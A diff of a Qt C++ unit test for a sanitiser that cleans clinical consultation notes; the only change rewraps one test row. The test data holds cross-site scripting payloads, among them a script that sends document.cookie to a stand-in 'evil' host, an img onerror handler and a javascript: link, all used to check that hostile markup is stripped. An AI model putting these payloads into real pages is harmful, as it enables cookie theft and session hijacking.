@@ -169,7 +169,8 @@ void TstPayloads::consultationNotesSanitised_data()
     QTest::newRow("script and handler")
         << "<script>fetch('//evil?c='+document.cookie)</script><p onclick=\"x()\">Ate well</p>"
         << "<p>Ate well</p>" << false;
-    QTest::newRow("img onerror") << "<img src=x onerror=alert(1)>Bright" << "Bright" << false;
+    QTest::newRow("img onerror") << "<img src=x onerror=alert(1)>Bright"
+                                 << "Bright" << false;
     QTest::newRow("end of life inside a link") << "<a href=\"javascript:x\">Patient deceased</a> at 9am"
                                                << "Patient deceased at 9am" << true;
     QTest::newRow("end of life split by dropped markup")
